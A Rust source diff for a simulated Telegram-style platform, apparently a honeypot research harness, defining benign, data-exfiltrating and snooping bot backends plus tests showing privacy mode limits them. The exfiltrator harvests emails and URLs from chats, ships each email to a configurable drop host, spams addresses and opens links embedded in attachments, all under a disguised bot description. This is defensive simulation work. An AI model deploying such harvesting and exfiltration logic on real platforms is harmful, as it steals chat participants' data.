@@ -1,0 +1,497 @@
+//! Bot backend behaviours for the Telegram-style substrate.
+//!
+//! Mirrors `botsdk`'s split: a [`TgBehavior`] is developer-controlled
+//! backend code receiving updates through a [`TgApi`], which couples the
+//! bot's *platform* account (mediated by delivery policy and rights) with
+//! the backend's own unmediated *network* access.
+//!
+//! The malicious counterparts differ from the Discord versions exactly
+//! where the platforms differ: there is no history endpoint, so
+//! [`TgSnooperBehavior`] can only hoard messages the delivery policy let it
+//! see — with privacy mode on and no admin rights, that is nothing but
+//! commands, and the honeypot's detection counts show it.
+
+use crate::tg::{TgPlatform, TgResult, TgUpdate};
+use netsim::client::{ClientConfig, HttpClient};
+use netsim::http::{Response, Url};
+use netsim::{NetError, Network};
+use platform::{ActorId, RoomId};
+use std::collections::{BTreeMap, BTreeSet};
+
+/// Extract `http(s)://…` substrings from arbitrary bytes — how a document
+/// preview/open ends up fetching remote resources embedded in metadata.
+pub fn urls_in_bytes(bytes: &[u8]) -> Vec<String> {
+    let text = String::from_utf8_lossy(bytes);
+    let mut out = Vec::new();
+    for scheme in ["https://", "http://"] {
+        let mut offset = 0;
+        while let Some(pos) = text[offset..].find(scheme) {
+            let abs = offset + pos;
+            let tail = &text[abs..];
+            let end = tail
+                .find(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == '>' || c == ')')
+                .unwrap_or(tail.len());
+            out.push(tail[..end].to_string());
+            offset = abs + end.max(1);
+        }
+    }
+    out.sort();
+    out.dedup();
+    out
+}
+
+/// Everything a behaviour can do: platform actions as the bot account, and
+/// raw network access as the developer's server.
+pub struct TgApi {
+    platform: TgPlatform,
+    bot: ActorId,
+    http: HttpClient,
+}
+
+impl TgApi {
+    /// Construct the API for one bot backend. `label` names the backend in
+    /// network traces (`bot-backend/{label}`) — the honeypot attributes
+    /// canary triggers to it.
+    pub fn new(platform: TgPlatform, net: Network, bot: ActorId, label: &str) -> TgApi {
+        let http = HttpClient::new(
+            net,
+            ClientConfig {
+                user_agent: format!("bot-backend/{label}"),
+                ..ClientConfig::default()
+            },
+        );
+        TgApi {
+            platform,
+            bot,
+            http,
+        }
+    }
+
+    /// The bot's account ID.
+    pub fn bot_id(&self) -> ActorId {
+        self.bot
+    }
+
+    /// Post a message to a group as the bot.
+    pub fn send(&self, group: RoomId, content: &str) -> TgResult<u64> {
+        self.platform.send_message(self.bot, group, content, vec![])
+    }
+
+    /// Fetch a URL from the developer's backend server. Ordinary internet
+    /// access — the platform has no say in it.
+    pub fn fetch_url(&mut self, url: &str) -> Result<Response, NetError> {
+        let url = Url::parse(url)?;
+        self.http.get(url)
+    }
+
+    /// Direct platform access for advanced behaviours.
+    pub fn platform(&self) -> &TgPlatform {
+        &self.platform
+    }
+}
+
+/// Developer-controlled backend logic.
+pub trait TgBehavior: Send {
+    /// Handle one update.
+    fn on_update(&mut self, update: &TgUpdate, api: &mut TgApi);
+
+    /// A short functional description, as it would appear in a listing.
+    fn description(&self) -> String {
+        "A chatbot.".to_string()
+    }
+}
+
+/// A well-behaved bot: answers its own slash commands, ignores everything
+/// else.
+pub struct TgBenignBehavior {
+    /// Functional tag shown in listings (music, fun, moderation, …).
+    pub tag: String,
+}
+
+impl TgBenignBehavior {
+    /// A benign bot.
+    pub fn new(tag: &str) -> TgBenignBehavior {
+        TgBenignBehavior {
+            tag: tag.to_string(),
+        }
+    }
+}
+
+impl TgBehavior for TgBenignBehavior {
+    fn on_update(&mut self, update: &TgUpdate, api: &mut TgApi) {
+        let TgUpdate::Message { group, message } = update;
+        if message.author == api.bot_id() {
+            return;
+        }
+        let Some((cmd, _target)) = message.slash_command() else {
+            return;
+        };
+        let reply = match cmd {
+            "ping" => "pong".to_string(),
+            "info" => format!("I am a {} bot. Try /help.", self.tag),
+            "help" => "commands: /ping /info /help".to_string(),
+            _ => return,
+        };
+        let _ = api.send(*group, &reply);
+    }
+
+    fn description(&self) -> String {
+        format!("A friendly {} bot.", self.tag)
+    }
+}
+
+/// An automated data-harvesting backend — the Telegram twin of
+/// `botsdk::ExfiltratorBehavior`. Works on whatever the delivery policy
+/// hands it: with privacy mode off it sees (and harvests) everything.
+pub struct TgExfiltratorBehavior {
+    /// Where the harvest is shipped, if mounted.
+    pub drop_host: Option<String>,
+    /// Whether harvested addresses are spammed (what an email canary
+    /// detects), modeled as a delivery request to the address's mail host.
+    pub spams_harvested_emails: bool,
+    /// URLs fetched so far.
+    pub fetched_urls: Vec<String>,
+    /// Emails harvested so far.
+    pub harvested_emails: Vec<String>,
+    /// Attachments opened so far (filenames).
+    pub opened_attachments: Vec<String>,
+}
+
+impl TgExfiltratorBehavior {
+    /// A fresh exfiltrator; pass a drop host to also ship the harvest out.
+    pub fn new(drop_host: Option<&str>) -> TgExfiltratorBehavior {
+        TgExfiltratorBehavior {
+            drop_host: drop_host.map(str::to_string),
+            spams_harvested_emails: false,
+            fetched_urls: Vec::new(),
+            harvested_emails: Vec::new(),
+            opened_attachments: Vec::new(),
+        }
+    }
+
+    /// Enable spamming of harvested addresses.
+    pub fn spamming(mut self) -> TgExfiltratorBehavior {
+        self.spams_harvested_emails = true;
+        self
+    }
+}
+
+impl TgBehavior for TgExfiltratorBehavior {
+    fn on_update(&mut self, update: &TgUpdate, api: &mut TgApi) {
+        let TgUpdate::Message { message, .. } = update;
+        if message.author == api.bot_id() {
+            return;
+        }
+        for url in message.urls() {
+            if api.fetch_url(url).is_ok() {
+                self.fetched_urls.push(url.to_string());
+            }
+        }
+        for email in message.emails() {
+            let email = email.to_string();
+            self.harvested_emails.push(email.clone());
+            if let Some(host) = &self.drop_host {
+                let _ = api.fetch_url(&format!("https://{host}/drop?data={email}"));
+            }
+            if self.spams_harvested_emails {
+                if let Some((local, domain)) = email.split_once('@') {
+                    let _ = api.fetch_url(&format!("https://{domain}/mail/{local}"));
+                }
+            }
+        }
+        for att in message.attachments.clone() {
+            self.opened_attachments.push(att.filename.clone());
+            for url in urls_in_bytes(&att.bytes) {
+                if api.fetch_url(&url).is_ok() {
+                    self.fetched_urls.push(url);
+                }
+            }
+        }
+    }
+
+    fn description(&self) -> String {
+        "A totally normal utility bot.".to_string()
+    }
+}
+
+/// The manual, one-shot developer snoop, Telegram edition.
+///
+/// There is no history endpoint to skim, so the backend *hoards* every
+/// message delivery policy handed it; once `trigger_after` have
+/// accumulated in a group, the "developer logs in", opens the hoard's
+/// documents and links, and posts a human aside. With privacy mode on and
+/// no admin rights the hoard holds nothing worth opening — the platform
+/// default genuinely blunts this attack.
+pub struct TgSnooperBehavior {
+    /// Messages hoarded per group before curiosity wins.
+    pub trigger_after: usize,
+    /// What the developer blurts out after seeing the content.
+    pub aside: String,
+    hoard: BTreeMap<RoomId, Vec<crate::tg::TgMessage>>,
+    snooped: BTreeSet<RoomId>,
+    aside_posted: BTreeSet<RoomId>,
+    /// URLs fetched during snoops.
+    pub fetched_urls: Vec<String>,
+    /// Attachments opened during snoops (filenames).
+    pub opened_attachments: Vec<String>,
+}
+
+impl TgSnooperBehavior {
+    /// A snooper with the given patience.
+    pub fn new(trigger_after: usize) -> TgSnooperBehavior {
+        TgSnooperBehavior {
+            trigger_after,
+            aside: "wtf is this bro".to_string(),
+            hoard: BTreeMap::new(),
+            snooped: BTreeSet::new(),
+            aside_posted: BTreeSet::new(),
+            fetched_urls: Vec::new(),
+            opened_attachments: Vec::new(),
+        }
+    }
+}
+
+impl TgSnooperBehavior {
+    /// Open a logged message's links and attachments as the developer.
+    fn skim(&mut self, msg: &crate::tg::TgMessage, api: &mut TgApi) {
+        for url in msg.urls() {
+            if api.fetch_url(url).is_ok() {
+                self.fetched_urls.push(url.to_string());
+            }
+        }
+        for att in &msg.attachments {
+            self.opened_attachments.push(att.filename.clone());
+            for url in urls_in_bytes(&att.bytes) {
+                if api.fetch_url(&url).is_ok() {
+                    self.fetched_urls.push(url);
+                }
+            }
+        }
+    }
+
+    /// The human tell, blurted the first time the skim actually turned up
+    /// content (not at the trigger itself — an empty log is boring).
+    fn maybe_aside(&mut self, group: RoomId, opened_before: usize, api: &mut TgApi) {
+        let opened_now = self.fetched_urls.len() + self.opened_attachments.len();
+        if opened_now > opened_before && self.aside_posted.insert(group) {
+            let _ = api.send(group, &self.aside);
+        }
+    }
+}
+
+impl TgBehavior for TgSnooperBehavior {
+    fn on_update(&mut self, update: &TgUpdate, api: &mut TgApi) {
+        let TgUpdate::Message { group, message } = update;
+        if message.author == api.bot_id() {
+            return;
+        }
+        let hoard = self.hoard.entry(*group).or_default();
+        hoard.push(message.clone());
+        if self.snooped.contains(group) {
+            // Curiosity already won in this group: the developer now
+            // watches the log live, opening whatever arrives. (Unlike the
+            // Discord snooper there is no history API to skim later — bots
+            // only ever see messages at delivery time.)
+            let opened_before = self.fetched_urls.len() + self.opened_attachments.len();
+            let message = message.clone();
+            self.skim(&message, api);
+            self.maybe_aside(*group, opened_before, api);
+            return;
+        }
+        if hoard.len() < self.trigger_after {
+            return;
+        }
+        self.snooped.insert(*group);
+
+        // The developer skims what the backend logged.
+        let opened_before = self.fetched_urls.len() + self.opened_attachments.len();
+        let stash = self.hoard.get(group).cloned().unwrap_or_default();
+        for msg in &stash {
+            self.skim(msg, api);
+        }
+        self.maybe_aside(*group, opened_before, api);
+    }
+
+    fn description(&self) -> String {
+        "Fun commands and memes!".to_string()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::tg::TgError;
+    use netsim::clock::VirtualClock;
+    use netsim::http::Request;
+    use netsim::ServiceCtx;
+    use platform::{ChatAttachment, TgRights};
+
+    struct World {
+        p: TgPlatform,
+        net: Network,
+        alice: ActorId,
+        group: RoomId,
+        bot: ActorId,
+    }
+
+    fn world(rights: TgRights, privacy: bool) -> World {
+        let clock = VirtualClock::new();
+        let net = Network::with_clock(1, clock.clone());
+        net.mount("canary.sink", |req: &Request, _ctx: &mut ServiceCtx<'_>| {
+            netsim::http::Response::ok(format!("signal {}", req.url.path))
+        });
+        let p = TgPlatform::new(clock);
+        let owner = p.register_user("owner", "o@x.y");
+        let alice = p.register_user("alice", "a@x.y");
+        let group = p.create_group(owner, "g").unwrap();
+        let code = p.invite_link(owner, group).unwrap();
+        p.join_group(alice, group, Some(&code)).unwrap();
+        let bot = p.register_bot("shadybot", rights, privacy).unwrap();
+        p.add_bot_to_group(owner, group, bot).unwrap();
+        p.connect_gateway(bot).unwrap();
+        World {
+            p,
+            net,
+            alice,
+            group,
+            bot,
+        }
+    }
+
+    fn pump(w: &World, behavior: &mut dyn TgBehavior) {
+        let mut api = TgApi::new(w.p.clone(), w.net.clone(), w.bot, "shady");
+        for update in w.p.drain_updates(w.bot) {
+            behavior.on_update(&update, &mut api);
+        }
+    }
+
+    #[test]
+    fn benign_bot_replies_to_slash_ping() {
+        let w = world(TgRights::NONE, true);
+        let mut b = TgBenignBehavior::new("fun");
+        w.p.send_message(w.alice, w.group, "/ping", vec![]).unwrap();
+        pump(&w, &mut b);
+        let owner = 1_000;
+        let history = w.p.read_history(owner, w.group).unwrap();
+        assert_eq!(history.last().unwrap().content, "pong");
+        assert_eq!(history.last().unwrap().author, w.bot);
+    }
+
+    #[test]
+    fn exfiltrator_with_privacy_off_harvests_chatter() {
+        let w = world(TgRights::NONE, false);
+        let mut x = TgExfiltratorBehavior::new(None);
+        w.p.send_message(
+            w.alice,
+            w.group,
+            "see https://canary.sink/t/tok1 ok",
+            vec![],
+        )
+        .unwrap();
+        pump(&w, &mut x);
+        assert_eq!(x.fetched_urls, vec!["https://canary.sink/t/tok1"]);
+    }
+
+    #[test]
+    fn exfiltrator_behind_privacy_mode_sees_nothing() {
+        let w = world(TgRights::NONE, true);
+        let mut x = TgExfiltratorBehavior::new(None);
+        w.p.send_message(
+            w.alice,
+            w.group,
+            "see https://canary.sink/t/tok2 ok",
+            vec![],
+        )
+        .unwrap();
+        pump(&w, &mut x);
+        assert!(
+            x.fetched_urls.is_empty(),
+            "privacy mode withheld the message"
+        );
+    }
+
+    #[test]
+    fn snooper_hoards_then_opens_once() {
+        let w = world(TgRights::NONE, false);
+        let mut s = TgSnooperBehavior::new(3);
+        let doc = ChatAttachment::new(
+            "notes.docx",
+            "application/vnd.word",
+            b"https://canary.sink/t/snoop7".to_vec(),
+        );
+        w.p.send_message(
+            w.alice,
+            w.group,
+            "first https://canary.sink/t/early",
+            vec![doc],
+        )
+        .unwrap();
+        w.p.send_message(w.alice, w.group, "second", vec![])
+            .unwrap();
+        pump(&w, &mut s);
+        assert!(s.fetched_urls.is_empty(), "dormant below threshold");
+        w.p.send_message(w.alice, w.group, "third", vec![]).unwrap();
+        pump(&w, &mut s);
+        assert!(s
+            .fetched_urls
+            .contains(&"https://canary.sink/t/early".to_string()));
+        assert!(s
+            .fetched_urls
+            .contains(&"https://canary.sink/t/snoop7".to_string()));
+        assert_eq!(s.opened_attachments, vec!["notes.docx"]);
+        let owner = 1_000;
+        let last = w.p.read_history(owner, w.group).unwrap().pop().unwrap();
+        assert_eq!(last.content, "wtf is this bro");
+        assert_eq!(last.author, w.bot);
+        // Once curiosity wins, the developer watches the log live: content
+        // arriving later is opened too (there is no history API to come
+        // back to), but the aside is blurted only once.
+        let before = s.fetched_urls.len();
+        w.p.send_message(
+            w.alice,
+            w.group,
+            "fourth https://canary.sink/t/later",
+            vec![],
+        )
+        .unwrap();
+        pump(&w, &mut s);
+        assert_eq!(s.fetched_urls.len(), before + 1);
+        assert!(s
+            .fetched_urls
+            .contains(&"https://canary.sink/t/later".to_string()));
+        let last = w.p.read_history(owner, w.group).unwrap().pop().unwrap();
+        assert_ne!(last.content, "wtf is this bro", "aside posted only once");
+    }
+
+    #[test]
+    fn snooper_behind_privacy_mode_hoards_only_commands() {
+        let w = world(TgRights::NONE, true);
+        let mut s = TgSnooperBehavior::new(2);
+        w.p.send_message(w.alice, w.group, "secret https://canary.sink/t/x", vec![])
+            .unwrap();
+        w.p.send_message(w.alice, w.group, "/help", vec![]).unwrap();
+        w.p.send_message(w.alice, w.group, "/info", vec![]).unwrap();
+        pump(&w, &mut s);
+        assert!(
+            s.fetched_urls.is_empty(),
+            "the hoard held only command lines — nothing to open"
+        );
+    }
+
+    #[test]
+    fn api_send_respects_membership() {
+        let w = world(TgRights::NONE, false);
+        let other = w.p.create_group(w.alice, "other").unwrap();
+        let api = TgApi::new(w.p.clone(), w.net.clone(), w.bot, "shady");
+        assert_eq!(api.send(other, "hi"), Err(TgError::NotMember));
+    }
+
+    #[test]
+    fn urls_in_bytes_finds_embedded_links() {
+        let doc = b"PK docProps https://canary.sink/t/abc more <a href=\"http://x.y/z\">";
+        assert_eq!(
+            urls_in_bytes(doc),
+            vec!["http://x.y/z", "https://canary.sink/t/abc"]
+        );
+    }
+}
